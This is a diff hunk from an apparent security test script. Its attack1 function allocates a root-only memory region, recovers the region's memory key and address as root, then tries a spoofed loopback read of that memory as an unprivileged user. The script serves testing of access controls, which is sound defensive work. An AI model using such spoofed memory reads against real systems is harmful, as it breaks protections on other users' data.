@@ -254,9 +254,11 @@ attack_save() { save attack; }
 attack1() {
 	local out key='' addr=''
 	save attack
-	out=$("$LITENL" lmr alloc --id 7 --name secret.lmr --size 4096 --mode 0600 -o json) || true
-	[[ $out =~ \"memory_key\":\ ([0-9]+) ]] && key=${BASH_REMATCH[1]}
-	[[ $out =~ \"addr\":\ ([0-9]+) ]] && addr=${BASH_REMATCH[1]}
+	"$LITENL" lmr alloc --id 7 --name secret.lmr --size 4096 --mode 0600 > /dev/null || true
+	# litenl prints no key or address: read them as root with keymode.py.
+	out=$(python3 "$(dirname "${BASH_SOURCE[0]}")/keymode.py" lmr-keys) || true
+	[[ $out =~ lmr\ 7\ secret\.lmr\ key=(0x[0-9a-f]+) ]] && key=${BASH_REMATCH[1]}
+	[[ $out =~ chunk\ 7\ (0x[0-9a-f]+) ]] && addr=${BASH_REMATCH[1]}
 	check "root's 0600 LMR: memory key and chunk address known to root" test -n "$key" -a -n "$addr"
 	local read=(--rkey "${key:-0}" --raddr "${addr:-0}" --len 64)
 	spoof user loopback --addr "$ME" --node "1:$INC" --k "$K" "${read[@]}"
